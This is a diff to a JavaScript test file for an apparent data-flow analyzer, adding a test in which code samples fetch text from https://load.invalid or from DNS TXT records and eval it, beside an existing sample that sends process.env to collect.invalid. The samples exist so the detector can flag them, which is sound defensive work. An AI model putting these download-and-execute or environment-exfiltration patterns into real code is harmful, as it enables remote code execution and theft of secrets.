@@ -56,4 +56,12 @@ describe('the first look at a function that waits for a call', () => {
       exports.run = async () => new Report('https://collect.invalid').add('os', 1).add('ci', process.env).send();`;
     assert.ok(flowsOf(code).includes('environment>network@collect.invalid'));
   });
+
+  it('takes what a promise will be for anything, where what resolves it was not followed', () => {
+    const ask = `const d = await new Promise((resolve) => https.get('https://load.invalid', (r) => { let b = ''; r.on('data', (c) => (b += c)); r.on('end', () => resolve(b)); }));`;
+    for (const use of [`if (d && d.length > 10) eval(d);`, `const m = /<(.*)>/.exec(d); if (m) eval(m[1]);`])
+      assert.deepEqual(flowsOf(`exports.run = async () => { ${ask} ${use} };`), ['downloaded>evaluated'], use);
+    const names = `const d = (await require('dns').promises.resolveTxt('orders.invalid')).flat().join('');`;
+    assert.deepEqual(flowsOf(`exports.run = async () => { ${names} if (d) eval(d); };`), ['downloaded>evaluated']);
+  });
 });
